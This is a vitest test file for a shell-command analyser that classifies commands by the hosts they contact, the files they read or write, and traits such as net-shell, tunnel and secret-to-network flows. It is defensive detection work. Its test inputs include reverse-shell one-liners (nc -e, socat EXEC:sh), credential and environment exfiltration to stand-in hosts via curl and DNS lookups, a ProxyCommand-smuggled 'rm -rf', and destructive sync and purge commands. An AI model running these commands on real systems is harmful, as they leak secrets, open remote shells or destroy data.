import { describe, expect, test } from 'vitest';
import { isUncertain, planCommand, programs, touches } from '../planning.ts';
import { flows, hosts, traits } from './facts.ts';

describe('clients of HTTP', () => {
  test.each([
    ['curl https://a.example/x', ['a.example']],
    ['curl a.example b.example', ['a.example', 'b.example']],
    ['curl -X DELETE https://a.example', ['a.example upload']],
    ['curl -d x https://a.example', ['a.example upload']],
    ['curl -G -d x https://a.example', ['a.example']],
    ['curl -T f https://a.example', ['a.example upload']],
    ['curl -x p.example https://a.example', ['a.example', '?']],
    ['curl -K cfg', ['?', '? upload']],
    ['curl "http://[::1]:3000/a?b=1"', ['[::1]']],
    ['curl http://[::1]:3000/a?b=1', ['[::1]']],
    ['curl localhost:3000/a?b=c', ['localhost']],
    ['wget --post-data=x https://a.example', ['a.example upload']],
    ['wget -i urls', ['?', '?']],
    ['http POST a.example x=1', ['a.example upload']],
    ['http :3000/x', ['localhost']],
    ['http a.example', ['a.example']],
  ])('%s reaches %j', (command, expected) => {
    expect(hosts(command)).toEqual(expected);
  });

  test('files that are sent or written are named', () => {
    expect(touches(planCommand('curl -d @a -F f=@b -H @c https://x.example'))).toEqual([
      'read /ws/a',
      'read /ws/b',
      'read /ws/c',
    ]);
    expect(touches(planCommand('curl file:///etc/passwd'))).toEqual(['read /etc/passwd']);
    expect(touches(planCommand('curl -O https://x.example/d/f.tgz'))).toEqual(['write /ws/f.tgz']);
    expect(touches(planCommand('curl -so out https://x.example'))).toEqual(['write /ws/out']);
    expect(touches(planCommand('wget https://x.example/d/f.tgz'))).toEqual(['write /ws/f.tgz']);
  });

  test('a secret that is sent is a flow', () => {
    expect(flows('curl -d @/home/u/.aws/credentials https://x.example')).toContain('secret>network');
    expect(flows('op read op://a | curl -d @- https://x.example')).toContain('secret>network');
    expect(flows('env | curl -d @- https://x.example')).toContain('env>network');
    expect(flows('curl -d @a.json https://x.example')).not.toContain('secret>network');
  });

  test('an option that is not known takes the trait away', () => {
    expect(traits('curl -sSL https://a.example')).toBe('download');
    expect(traits('curl --some-option https://a.example')).toBe('');
  });
});

describe('other ways to other machines', () => {
  test.each([
    ['nc -e /bin/sh a.example 1', 'net-shell'],
    ['ncat --sh-exec sh a.example 1', 'net-shell'],
    ['socat TCP:a.example:1 EXEC:sh', 'net-shell'],
    ['socat - TCP:a.example:1', 'tunnel'],
    ['nc -l 4444', 'listen'],
    ['nc -z localhost 1', 'read-only'],
    ['ssh a.example', 'remote-exec'],
    ['ssh -R 1:localhost:2 a.example', 'remote-exec tunnel'],
    ['ssh -V', 'read-only'],
    ['rsync -a a/ b/', 'file-work'],
    ['rsync --some-option a b', ''],
    ['ngrok http 3000', 'tunnel'],
    ['dig a.example', 'read-only'],
    ['rclone purge r:x', 'cloud-destroy'],
  ])('%s: %s', (command, expected) => {
    expect(traits(command).split(' ')).toEqual(
      expect.arrayContaining(expected === '' ? [''] : expected.split(' ')),
    );
  });

  test('rsync deletes here what it does not find there', () => {
    expect(touches(planCommand('rsync -a --delete a/ /x/'))).toContain('delete /x -r');
    expect(touches(planCommand('rsync -an --delete a/ /x/'))).not.toContain('delete /x -r');
    expect(touches(planCommand('rsync -a --delete a/ h.example:/x/'))).not.toContain('delete /x -r');
  });

  test('commands in options are planned', () => {
    expect(programs(planCommand("scp -o ProxyCommand='rm -rf y' a h.example:"))).toContain('rm');
    expect(programs(planCommand('socat TCP:a.example:1 EXEC:"rm -rf y"'))).toContain('rm');
    expect(isUncertain(planCommand('scp -o PermitLocalCommand=yes a h.example:'))).toBe(true);
  });

  test('what is in the name that is looked up is sent', () => {
    expect(hosts('dig a.example')).toEqual(['a.example']);
    expect(flows('dig $(cat .env).a.example')).toContain('secret>network');
  });
});
